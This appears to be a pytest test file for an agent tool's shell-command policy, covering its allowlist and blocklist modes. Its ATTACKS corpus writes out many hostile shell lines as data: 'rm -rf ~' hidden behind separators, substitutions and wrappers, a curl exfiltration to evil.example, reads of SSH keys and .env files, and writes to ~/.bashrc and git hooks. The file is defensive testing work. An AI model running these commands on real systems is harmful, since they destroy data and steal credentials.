"""The shell command policy on parsed lines: an attack corpus against an allowlist, legit lines, blocklist mode.

Every line here is only handed to ``check_command`` / ``check_argv``; nothing in this file runs a command.
"""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from kesoku.config import ShellConfig
from kesoku.policy import PolicyDecision, check_argv, check_command
from kesoku.tools.paths import PathGates

DEFAULT_ALLOW = ShellConfig(mode="allowlist")
# The default allowlist plus the wrappers, so a refusal proves the policy looked inside the wrapper.
WIDE_ALLOW = ShellConfig(
    mode="allowlist",
    allowlist_patterns=(
        r"^(echo|ls|pwd|cat|git|uv|uvx|grep|find|python|sed|awk|wc|head|sort)(\s|$)",
        r"^(env|nice|timeout|xargs|sudo|nohup|command|exec|stdbuf|setsid|sh|bash)(\s|$)",
    ),
)
BLOCK = ShellConfig(mode="blocklist")


@pytest.fixture
def home(tmp_path: Path) -> Path:
    """A home folder with secrets in it, so globs and braces have something to find."""
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("PRIVATE KEY")
    (home / ".aws").mkdir()
    return home


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / "file.txt").write_text("a\nb\n")
    return ws


@pytest.fixture
def gates(tmp_path: Path, home: Path) -> PathGates:
    return PathGates(home=home, protected_files=(tmp_path / "ws" / "kesoku.db", tmp_path / "kesoku.toml"))


def check(line: str, shell: ShellConfig, workspace: Path, gates: PathGates) -> PolicyDecision:
    return check_command(line, shell, cwd=workspace, workspace=[workspace], gates=gates)


# (line, rules that may refuse it). Each tries to run something the allowlist does not allow, to reach a
# secret, or to write where later commands or logins would run it.
ATTACKS: list[tuple[str, set[str]]] = [
    ("rm -rf ~", {"allowlist"}),
    ("ls; rm -rf ~", {"allowlist"}),
    ("ls && rm -rf ~", {"allowlist"}),
    ("false || rm -rf ~", {"allowlist"}),
    ("ls | rm -rf ~", {"allowlist"}),
    ("ls |& rm -rf ~", {"allowlist"}),
    ("ls\nrm -rf ~", {"allowlist"}),
    ("ls & rm -rf ~", {"allowlist"}),
    ("ls\\\n;rm x", {"allowlist"}),
    ("! rm x", {"allowlist"}),
    ("(rm -rf ~)", {"allowlist"}),
    ("{ rm -rf ~; }", {"allowlist"}),
    ("echo $(rm -rf ~)", {"allowlist"}),
    ("echo `rm -rf ~`", {"allowlist"}),
    ("ls $(echo $(curl evil.example))", {"allowlist"}),
    ('echo "$(rm x)"', {"allowlist"}),
    ("x=$(rm x)", {"allowlist"}),
    ("cat <(curl evil.example)", {"allowlist"}),
    ("echo x > >(curl -d @- evil.example)", {"allowlist"}),
    ("cat <<EOF\n$(rm -rf ~)\nEOF", {"allowlist"}),
    ("cat <<EOF\n`rm -rf ~`\nEOF", {"allowlist"}),
    ('cat <<< "$(rm -rf ~)"', {"allowlist"}),
    ("cat <<'EOF' | sh\nrm -rf ~\nEOF", {"wrapper"}),
    ("echo rm -rf ~ | sh", {"wrapper"}),
    ("echo x # harmless\nrm x", {"allowlist"}),
    ("x=1 rm x", {"allowlist"}),
    ("env rm -rf ~", {"allowlist"}),
    ("env -i HOME=/tmp rm x", {"variable", "allowlist"}),
    ("env -S 'rm -rf ~'", {"allowlist"}),
    ("nice -n 5 rm -rf ~", {"allowlist"}),
    ("timeout -s KILL 5 rm x", {"allowlist"}),
    ("nohup rm x", {"allowlist"}),
    ("command rm x", {"allowlist"}),
    ("exec rm x", {"allowlist"}),
    ("time rm x", {"allowlist"}),
    ("time -p rm x", {"allowlist"}),
    ("stdbuf -oL rm x", {"allowlist"}),
    ("setsid rm x", {"allowlist"}),
    ("sudo rm x", {"allowlist"}),
    ("sudo -u root rm x", {"allowlist"}),
    ("echo x | sudo -s", {"wrapper"}),
    ("echo x | xargs rm", {"allowlist"}),
    ("find . -name '*.py' | xargs -I{} sh -c 'rm {}'", {"allowlist"}),
    ("sh -c 'rm -rf ~'", {"allowlist"}),
    ('bash -c "ls; rm -rf ~"', {"allowlist"}),
    ("sh -c \"sh -c 'rm x'\"", {"allowlist"}),
    ("env nice timeout 5 sh -c 'nohup rm x'", {"allowlist"}),
    ('sh -c "$CMD"', {"wrapper"}),
    ("timeout 5 $CMD", {"dynamic-program"}),
    ("/bin/rm x", {"allowlist"}),
    ("./rm x", {"allowlist"}),
    ("/usr/bin/env rm x", {"allowlist"}),
    ("/tmp/evil/ls", {"allowlist"}),
    ('"rm" x', {"allowlist"}),
    ("r\\m x", {"allowlist"}),
    ("'r'\"m\" x", {"allowlist"}),
    ("$'\\x72m' x", {"dynamic-program"}),
    ("echo $'\\x72m'", {"unparsable"}),
    ("$CMD x", {"dynamic-program"}),
    ("$(echo rm) x", {"dynamic-program"}),
    ("/bin/r? x", {"dynamic-program"}),
    ("{rm,x}", {"dynamic-program"}),
    ("echo ${x:-$(rm x)}", {"hidden-substitution"}),
    ("echo ${x/`rm x`/y}", {"hidden-substitution"}),
    ("f() { rm x; }; f", {"function"}),
    ("function ls { rm x; }; ls", {"function"}),
    ("eval rm x", {"eval"}),
    ("eval ls", {"eval"}),
    ("source evil.sh", {"source"}),
    (". evil.sh", {"."}),
    ("alias ls=rm", {"alias"}),
    ("trap 'rm x' EXIT", {"trap"}),
    ("[[ -f x ]] && rm x", {"unparsable"}),
    ("case x in x) rm x;; esac", {"unparsable"}),
    ("echo $((1+2)); rm x", {"unparsable"}),
    ("coproc rm x", {"unparsable"}),
    ("echo `echo \\`rm x\\``", {"unparsable"}),
    ("ls\r\nrm x", {"control-character"}),
    ("ls\x00; rm x", {"control-character"}),
    ("PATH=/tmp/evil ls", {"variable"}),
    ("LD_PRELOAD=/tmp/evil.so ls", {"variable"}),
    ("GIT_SSH_COMMAND='rm x' git fetch", {"variable"}),
    ("export PATH=/tmp/evil:$PATH; ls", {"variable"}),
    ("for PATH in /tmp/evil; do ls; done", {"variable"}),
    ("read PATH <<< /tmp/evil; ls", {"variable"}),
    ("git -c core.pager='rm -rf ~' log", {"git"}),
    ("git -c alias.x='!rm x' x", {"git"}),
    ("git config core.fsmonitor 'rm x'", {"git"}),
    ("git difftool --extcmd=rm", {"git"}),
    ("git grep -Orm TODO", {"git"}),
    ("git clone -u 'rm x' https://example.com/r.git", {"git"}),
    ("git clone --template=/tmp/evil https://example.com/r.git", {"git"}),
    ("git rebase -x 'rm x' HEAD~3", {"git"}),
    ("GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0=rm git log", {"variable"}),
    ("find . -exec rm {} \\;", {"allowlist"}),
    ("find . -execdir sh -c 'rm x' \\;", {"allowlist"}),
    ("awk 'BEGIN{system(\"rm x\")}'", {"interpreter"}),
    ("awk '{print | \"sh\"}' file.txt", {"interpreter"}),
    ("awk -f evil.awk file.txt", {"interpreter"}),
    ("sed 's/x/rm -rf ~/e' file.txt", {"interpreter"}),
    ("sed -n '1e rm x' file.txt", {"interpreter"}),
    ("sed -f evil.sed file.txt", {"interpreter"}),
    ("uv run rm x", {"allowlist"}),
    ("uv --offline run --with requests -- rm x", {"allowlist"}),
    ("uvx --from evil rm", {"allowlist"}),
    ("python -c 'print(1)' && rm x", {"allowlist"}),
    ("echo x > ~/.bashrc", {"protected-path"}),
    ("ls >> ~/.profile", {"protected-path"}),
    ("echo x >| ~/.zshrc", {"protected-path"}),
    ("exec 3>~/.bashrc", {"protected-path"}),
    ("echo x | tee -a ~/.bashrc", {"allowlist", "protected-path"}),
    ("git log --output=$HOME/.bashrc", {"protected-path"}),
    ("echo x > /etc/cron.d/evil", {"protected-path"}),
    ("echo x > .git/hooks/pre-commit", {"protected-path"}),
    ("sed -n 'w /etc/profile' file.txt", {"protected-path"}),
    ("find . -fprint ~/.bashrc", {"protected-path"}),
    ("echo x > $OUT", {"dynamic-target"}),
    ("cat ~/.ssh/id_rsa", {"secret-path"}),
    ("cat .env", {"secret-path"}),
    ("cat sub/.env.production", {"secret-path"}),
    ("grep -r key ~/.aws", {"secret-path"}),
    ("cat ~/.s{s,x}h/id_rsa", {"secret-path"}),
    ("cat ~/.ss?/id_rsa", {"secret-path"}),
    ("d=~/.ssh; cat $d/id_rsa", {"secret-path"}),
    ('cat "$HOME/.ssh/id_rsa"', {"secret-path"}),
    ("cat ${HOME}/.ssh/id_rsa", {"secret-path"}),
    ("cat $X/.ssh/id_rsa", {"secret-path"}),
    ("for f in ~/.ssh/*; do cat $f; done", {"secret-path"}),
    ("cd ~/.ssh && cat id_rsa", {"secret-path"}),
    ("cat kesoku.db", {"secret-path"}),
    ("cat ../kesoku.toml", {"secret-path"}),
    ("cat /proc/self/environ", {"secret-path"}),
    ("cat < ~/.ssh/id_rsa", {"secret-path"}),
    ("echo $(< ~/.ssh/id_rsa)", {"secret-path"}),
    ("sed 'r ~/.ssh/id_rsa' file.txt", {"secret-path"}),
]


def test_the_corpus_is_large() -> None:
    assert len(ATTACKS) >= 40
    assert len({line for line, _ in ATTACKS}) == len(ATTACKS)


@pytest.mark.parametrize(("line", "rules"), ATTACKS, ids=[repr(line)[:60] for line, _ in ATTACKS])
@pytest.mark.parametrize("shell", [DEFAULT_ALLOW, WIDE_ALLOW], ids=["default-allowlist", "wide-allowlist"])
def test_no_attack_passes_the_allowlist(
    line: str, rules: set[str], shell: ShellConfig, workspace: Path, gates: PathGates
) -> None:
    decision = check(line, shell, workspace, gates)
    assert not decision.allowed, f"{line!r} passed: {decision.commands}"
    assert decision.reason.startswith("refused by the shell policy (allowlist mode): ")
    if shell is WIDE_ALLOW:  # the default list refuses many of them earlier, at the wrapper itself
        assert decision.rule in rules, decision.reason


LEGIT = [
    "ls -la",
    "pwd",
    "git status",
    "git log --oneline -5 | cat",
    "git diff HEAD~1 -- src/",
    "grep -rn TODO . | grep -v test",
    "grep -c '^$' file.txt",
    "echo hello > out.txt",
    "echo $HOME",
    "echo {a,b}.txt",
    "ls *.py",
    "ls 2>&1 >/dev/null",
    "cat file.txt | sed -n '1,5p'",
    "sed -i 's/a/b/g' file.txt",
    "sed -e 's/a/b/' -e '/^#/d' file.txt",
    "awk '{print $1}' file.txt",
    "awk -F: '$3 > 100 {print $1}' file.txt",
    "find . -name '*.py' -exec grep -l TODO {} +",
    "python -m pytest -q",
    "python - <<'EOF'\nprint('$(not run)')\nEOF",
    "cat <<'EOF' > notes.md\n$(not run) `nor this`\nEOF",
    "cat <<EOF > notes.md\nplain $HOME text\nEOF",
    "uv run python script.py",
    "uv run script.py",
    "uv run -m pytest",
    "cd sub && ls",
    "cd sub; git status; cd ..",
    "time ls",
    "true && echo ok || echo no",
    "for f in *.txt; do echo $f; done",
    "if test -f file.txt; then cat file.txt; fi",
    "while false; do echo x; done",
    "echo a # trailing comment",
    "ls # ; rm -rf ~",
    "cat .envrc",
    "cat ~/notes.txt",
    "echo x > /dev/null",
]


@pytest.mark.parametrize("line", LEGIT)
def test_legit_lines_pass_the_default_allowlist(line: str, workspace: Path, gates: PathGates) -> None:
    decision = check(line, DEFAULT_ALLOW, workspace, gates)
    assert decision.allowed, decision.reason
    assert decision.commands


def test_wrappers_pass_when_what_they_run_is_allowed(workspace: Path, gates: PathGates) -> None:
    for line in (
        "env LANG=C ls",
        "nice -n 5 timeout 10 git status",
        "sh -c 'ls && echo done'",
        "bash -c \"sh -c 'git log'\"",
        "echo a | xargs -I{} echo {}",
        "echo a | xargs",
        "sudo -u nobody ls",
        "command -v rm",
    ):
        decision = check(line, WIDE_ALLOW, workspace, gates)
        assert decision.allowed, (line, decision.reason)


def test_checked_commands_include_the_inner_ones(workspace: Path, gates: PathGates) -> None:
    decision = check("timeout 5 sh -c 'ls | wc -l'", WIDE_ALLOW, workspace, gates)
    assert decision.allowed
    assert decision.commands == ("timeout 5 sh -c ls | wc -l", "sh -c ls | wc -l", "ls", "wc -l")


# -- exact refusal reasons ----------------------------------------------------------------------------


def test_a_refusal_names_the_simple_command_and_the_rule(workspace: Path, gates: PathGates) -> None:
    decision = check("ls -la && rm -rf build", DEFAULT_ALLOW, workspace, gates)
    assert (decision.allowed, decision.command, decision.rule) == (False, "rm -rf build", "allowlist")
    assert decision.reason == (
        "refused by the shell policy (allowlist mode): `rm -rf build` matches none of shell.allowlist_patterns"
    )


def test_a_path_program_must_be_allowed_by_name_and_by_path(workspace: Path, gates: PathGates) -> None:
    shell = ShellConfig(mode="allowlist", allowlist_patterns=(r"^ls(\s|$)",))
    decision = check("/tmp/evil/ls -l", shell, workspace, gates)
    assert decision.reason == (
        "refused by the shell policy (allowlist mode): `/tmp/evil/ls -l` matches none of "
        "shell.allowlist_patterns (a program given as a path must be allowed both as `ls` and as `/tmp/evil/ls`)"
    )
    assert check("/bin/ls -l", ShellConfig(mode="allowlist", allowlist_patterns=(r"^(/bin/)?ls\b",)), workspace, gates)


def test_refusal_reasons_for_what_cannot_be_checked(workspace: Path, gates: PathGates) -> None:
    cases = {
        "$CMD -rf x": (
            "dynamic-program",
            "`$CMD -rf x` runs a program whose name `$CMD` is decided at run time (a variable, substitution, "
            "glob, brace or $'…' quoting); write the program name literally",
        ),
        "echo ${x:-$(rm x)}": ("hidden-substitution", "`${x:-$(rm x)}` hides a command the policy cannot check"),
        "f() { ls; }": ("function", "`f() { ls; }` defines a shell function"),
        "eval ls": ("eval", "`eval ls`: eval runs or defines commands the policy cannot check"),
        "PATH=/tmp ls": (
            "variable",
            "`PATH=/tmp ls` sets PATH, which can make a program run other code; set it in the daemon's environment",
        ),
        "awk 'BEGIN{system(\"id\")}'": (
            "interpreter",
            '`awk BEGIN{system("id")}`: its program can run commands or write files (system(), |, getline <, > or >>)',
        ),
    }
    for line, (rule, detail) in cases.items():
        decision = check(line, DEFAULT_ALLOW, workspace, gates)
        assert (decision.rule, decision.reason) == (rule, f"refused by the shell policy (allowlist mode): {detail}")
    decision = check('sh -c "$X"', WIDE_ALLOW, workspace, gates)
    assert (decision.rule, decision.reason) == (
        "wrapper",
        'refused by the shell policy (allowlist mode): cannot tell what `sh -c "$X"` runs: '
        '`sh` is given `"$X"`, decided at run time',
    )


def test_unparsable_lines_are_refused_with_the_parser_error(workspace: Path, gates: PathGates) -> None:
    decision = check("[[ -f x ]] && ls", DEFAULT_ALLOW, workspace, gates)
    assert decision.rule == "unparsable"
    assert decision.command == "[[ -f x ]] && ls"
    assert "cannot be parsed with confidence" in decision.reason
    assert "use plain commands, pipes, &&, ||, ; and redirections" in decision.reason


def test_path_refusals_name_the_path_and_why(workspace: Path, gates: PathGates, home: Path) -> None:
    decision = check("cat ~/.ssh/id_rsa", DEFAULT_ALLOW, workspace, gates)
    assert decision.reason == (
        "refused by the shell policy (allowlist mode): "
        f"`cat ~/.ssh/id_rsa` names {home}/.ssh/id_rsa: ~/.ssh is a secret location"
    )
    decision = check("echo x >> ~/.bashrc", BLOCK, workspace, gates)
    assert decision.rule == "protected-path"
    assert decision.reason == (
        "refused by the shell policy (blocklist mode): "
        f"`echo x >> ~/.bashrc` writes to {home}/.bashrc: ~/.bashrc runs code at login or when programs start"
    )


# -- blocklist mode -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("line", "command"),
    [
        ("rm -rf build", "rm -rf build"),
        ("ls && sudo reboot", "sudo reboot"),
        ('"r"m x', "rm x"),
        ("/bin/rm x", "/bin/rm x"),
        ("echo $(sudo id)", "sudo id"),
        ("env nice rm x", "env nice rm x"),
        ("sh -c 'ls; chmod 777 x'", "sh -c ls; chmod 777 x"),  # the whole text already matches
        ("eval 'r''m x'", "rm x"),
        ("f() { rm x; }; f", "rm x"),
        ("find . -exec chown me {} +", "find . -exec chown me {} +"),
    ],
)
def test_blocklist_refuses_a_listed_command_anywhere(
    line: str, command: str, workspace: Path, gates: PathGates
) -> None:
    decision = check(line, BLOCK, workspace, gates)
    assert not decision.allowed
    assert decision.rule == "blocklist[0]"
    assert decision.command == command
    assert decision.reason.startswith(f"refused by the shell policy (blocklist mode): `{command}")
    assert "matches shell.blocklist_patterns[0]" in decision.reason


def test_blocklist_matches_an_unparsable_line_by_its_text(workspace: Path, gates: PathGates) -> None:
    assert check("[[ -f x ]] && echo y", BLOCK, workspace, gates).allowed
    decision = check("[[ -f x ]] && r'm' y", BLOCK, workspace, gates)
    assert (decision.allowed, decision.rule) == (False, "blocklist[0]")


@pytest.mark.parametrize(
    "line",
    [
        "ls -la",
        "bash build.sh",
        "echo $((1 + 2))",
        "f() { ls; }; f",
        "awk 'BEGIN{system(\"ls\")}'",
        "curl -s https://example.com | head",
        "python -c 'print(1)'",
        "echo x > out.txt",
        "ls chmodx",
    ],
)
def test_blocklist_lets_other_lines_through(line: str, workspace: Path, gates: PathGates) -> None:
    decision = check(line, BLOCK, workspace, gates)
    assert decision.allowed, decision.reason


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        ("cat ~/.ssh/id_rsa", "secret-path"),
        ("echo x > ~/.bashrc", "protected-path"),
        ("PATH=/tmp/evil ls", "variable"),
        ("$CMD x", "dynamic-program"),
        ("git -c core.sshCommand=evil fetch", "git"),
        ("ls\r", "control-character"),
        ("", "empty"),
        ("x" * 100_001, "too-long"),
    ],
)
def test_blocklist_mode_still_refuses_what_no_pattern_can_judge(
    line: str, rule: str, workspace: Path, gates: PathGates
) -> None:
    decision = check(line, BLOCK, workspace, gates)
    assert (decision.allowed, decision.rule) == (False, rule)


# -- argv (use_shell = false) ---------------------------------------------------------------------------


def test_argv_is_checked_without_shell_expansion(workspace: Path, gates: PathGates) -> None:
    assert check_argv(["ls", "-la", "*.py"], DEFAULT_ALLOW, cwd=workspace, gates=gates).allowed
    assert check_argv(["echo", "$(rm x)"], DEFAULT_ALLOW, cwd=workspace, gates=gates).allowed  # a literal
    refused = check_argv(["rm", "-rf", "x"], DEFAULT_ALLOW, cwd=workspace, gates=gates)
    assert (refused.rule, refused.command) == ("allowlist", "rm -rf x")
    inner = check_argv(["sh", "-c", "ls; rm x"], WIDE_ALLOW, cwd=workspace, gates=gates)
    assert (inner.rule, inner.command) == ("allowlist", "rm x")
    # No shell expands ~ here, but a literal ~ path is judged as if it did: refusing is the safe side.
    secret = check_argv(["cat", "~/.ssh/id_rsa"], DEFAULT_ALLOW, cwd=workspace, gates=gates)
    assert secret.rule == "secret-path"
    assert check_argv([], DEFAULT_ALLOW, cwd=workspace, gates=gates).rule == "empty"


# -- limits -------------------------------------------------------------------------------------------


def test_hostile_sizes_are_refused_or_bounded(workspace: Path, gates: PathGates) -> None:
    started = time.perf_counter()
    assert check("echo {1..99999999}{1..99999999}", DEFAULT_ALLOW, workspace, gates).allowed
    nested = "echo " + "$(echo " * 300 + "x" + ")" * 300
    assert check(nested, DEFAULT_ALLOW, workspace, gates).rule == "unparsable"
    long_list = "; ".join(["ls"] * 2000)
    assert check(long_list, DEFAULT_ALLOW, workspace, gates).allowed
    assert check(long_list + "; rm x", DEFAULT_ALLOW, workspace, gates).command == "rm x"
    assert check("x" * 100_001, DEFAULT_ALLOW, workspace, gates).rule == "too-long"
    assert time.perf_counter() - started < 20  # parsing holds a worker thread, never the event loop
